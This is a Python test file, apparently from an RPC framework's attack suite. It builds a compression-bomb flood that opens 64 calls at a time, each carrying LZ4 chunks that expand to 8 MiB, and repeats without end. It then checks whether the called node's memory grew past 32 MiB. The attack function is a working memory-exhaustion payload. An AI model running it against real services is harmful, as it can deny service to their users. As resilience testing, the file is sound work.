"""A node begins 64 calls with payloads of 8 MiB, compressed to 1 in 240, at a node whose longest
payload has 16 MiB, and ends none.
"""

from __future__ import annotations

import asyncio
import os
import struct
import time
from pathlib import Path

import tidewire as tw
from link_frames import CALL, CHUNK, COMPRESSED, MORE, NORMAL, called, frame

from attacks.target import TOKENS, Target, drained

ITEM = 9
MEMORY_MIB = 96
"""Twice what may wait for one link, and a window of each call."""
CALLS = 64
PAYLOAD_BYTES = 16 << 20
"""The longest payload of the node that is called."""
EACH_BYTES = 8 << 20
BLOCK_BYTES = 1 << 16
GREW_MIB = 32
"""One payload of what is compressed, and what the node is besides."""


def attack(target: Target) -> None:
    link = target.joined()
    drained(link.socket)
    block = _zeros()
    most = (struct.pack("<I", len(block)) + block) * (EACH_BYTES // BLOCK_BYTES - 1)
    exchange = 1 << 32
    while True:
        for slot in range(CALLS):
            head = called(b"svc.sink.one.take", deadline_ms=0)
            stated = struct.pack("<Q", EACH_BYTES)
            link.send(frame(CALL, head, stated, NORMAL | MORE | COMPRESSED, exchange | slot))
            link.send(frame(CHUNK, b"", most, NORMAL | MORE, exchange | slot))
        exchange += 1 << 32
        time.sleep(0.2)


def _zeros() -> bytes:
    """A block of LZ4: a zero, the same again, and five at the end."""
    more, rest = divmod(BLOCK_BYTES - 1 - 5 - 4 - 15, 255)
    return b"\x1f\0\1\0" + b"\xff" * more + bytes([rest]) + b"\x50" + bytes(5)


class Sink(tw.Service):
    @tw.method
    async def take(self, value: object) -> None:
        """Take it."""


async def look(target: Target) -> list[str]:
    links = {"payload_bytes": PAYLOAD_BYTES}
    async with tw.Node(target.tide, name="sink", token=TOKENS["good"], config={"links": links}) as node:
        Path("/proc/self/clear_refs").write_text("5")
        before = int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")
        served = await node.serve(Sink(), name="sink", instance="one")
        await asyncio.sleep(1.0)
        answers = {await node.client("sink").take(number) for number in range(20)}
        calls = served.statistics()["calls"]
    status = Path("/proc/self/status").read_text()
    peak = 1024 * int(next(line for line in status.splitlines() if line.startswith("VmHWM")).split()[1])
    grew = (peak - before) / 2**20
    problems = [f"the node that is called grew by {grew:.0f} MiB"] if grew > GREW_MIB else []
    return problems if answers == {None} and calls >= 20 else [*problems, f"{calls} good calls, {answers}"]
